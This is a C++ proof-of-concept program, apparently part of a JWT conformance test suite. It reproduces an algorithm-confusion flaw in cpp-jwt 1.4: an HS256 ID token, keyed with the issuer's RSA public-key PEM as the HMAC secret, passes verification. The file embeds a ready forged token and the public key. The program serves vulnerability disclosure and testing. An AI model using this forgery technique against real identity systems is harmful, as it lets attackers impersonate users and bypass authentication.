// cpp-jwt 1.4 verifies an HS256 ID token whose HMAC secret is the RSA public key's PEM: it takes
// one "secret" for every algorithm, and the token header's alg, once in the allow list, decides
// whether that secret is an HMAC key or an RSA PEM. An application that allows RS256 and HS256
// (both in use at one issuer) and passes the RSA key of the token's kid as the secret lets anyone
// holding the public key mint ID tokens.
//
// RFC 8725 §3.1 (RFC8725-3.1-alg): "each key MUST be used with exactly one algorithm". The
// documented attack: CVE-2015-9235, CVE-2016-10555, CVE-2022-29217 (algorithm confusion with a
// public key as the HMAC secret). cpp-jwt has no way to bind a key to an algorithm: secret()
// takes one string, and a secret() callback is given the payload, not the header.
//
// Reproduces: confusion/rsa-oidc-hs256-spki-pem-hs256-allowed (forgery)
//
// cpp-jwt is configured exactly as the jwt-conformance adapter does (adapters/cpp-jwt/adapter.cpp):
// jwt::decode with algorithms({"RS256", "HS256"}) (the profile's), secret(the SPKI PEM of the key
// set's JWK whose kid is the token's, "rsa-2048", as OpenSSL writes it), issuer
// "https://issuer.example", aud "s6BhdRkqt3" (the oidc-id-token profile's client_id), leeway 0,
// validate_iat(true), validate_jti(false), verify(true).
//
// Run (Debian libcpp-jwt-dev installed): bash scripts/setup/cpp.sh && adapters/cpp-jwt/bin/repro
// or: g++ -std=gnu++17 -o repro adapters/cpp-jwt/repro.cpp -lssl -lcrypto && ./repro
#include <cstdio>
#include <string>
#include <system_error>

#include <jwt/jwt.hpp>

static const char TOKEN[] =
    "eyJhbGciOiJIUzI1NiIsImtpZCI6InJzYS0yMDQ4In0.eyJhdWQiOiJzNkJoZFJrcXQzIiwiZXhwIjo0MTAyNDQ0ODAwLCJpYXQi"
    "OjEwMDAwMDAwMDAsImlzcyI6Imh0dHBzOi8vaXNzdWVyLmV4YW1wbGUiLCJzdWIiOiIyNDgyODk3NjEwMDEifQ.l_JJR9robLlESev5"
    "06YsHeUVRB0C3yKYAm8olg7x2Rk";

static const char PEM[] = "-----BEGIN PUBLIC KEY-----\n"
                          "MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA2ZMM5FrzlwilE7MG6ER+\n"
                          "aGOY0l6HYNpwU0GVK7isUvPG2MCK5rhVWolMqhXYzcKKX69grtDzz+TjLgBUKPDo\n"
                          "w2tIa9plyLoOwNy1UoPkhjpeHV0sPhYpQR2LlMDVcTbYX8tTOKjjwh0R44NlZlxO\n"
                          "70MzX4SIKrJYX8EBacimn8W0xUe3TPtICKUVb435Q4daE93psWzWmJPVwI2yY7mZ\n"
                          "UPmUvKQuFdtMFm2wutTb1/V7FefEZXyIReOYM9IPuUFv7qIF5k6OfGoIQI6a3aQa\n"
                          "Oyic6Ep7tDi9einTeTNKFmmWhdnVn55EgP34cXQI56yUnlM8MB4VFERUGbZrSMax\n"
                          "ywIDAQAB\n"
                          "-----END PUBLIC KEY-----\n";

int main() {
    using namespace jwt::params;
    std::error_code ec;
    auto obj = jwt::decode(TOKEN, algorithms({"RS256", "HS256"}), ec, secret(PEM), verify(true), leeway(0),
                           validate_iat(true), validate_jti(false), issuer("https://issuer.example"),
                           aud("s6BhdRkqt3"));
    if (ec) {
        std::printf("NOT REPRODUCED confusion/rsa-oidc-hs256-spki-pem-hs256-allowed: jwt::decode refused the "
                    "token (%s)\n", ec.message().c_str());
        return 1;
    }
    std::printf("REPRODUCED confusion/rsa-oidc-hs256-spki-pem-hs256-allowed: jwt::decode accepted an %s token "
                "keyed with the RSA public key's PEM (sub \"%s\")\n",
                std::string(jwt::alg_to_str(obj.header().algo())).c_str(),
                obj.payload().get_claim_value<std::string>("sub").c_str());
    return 0;
}
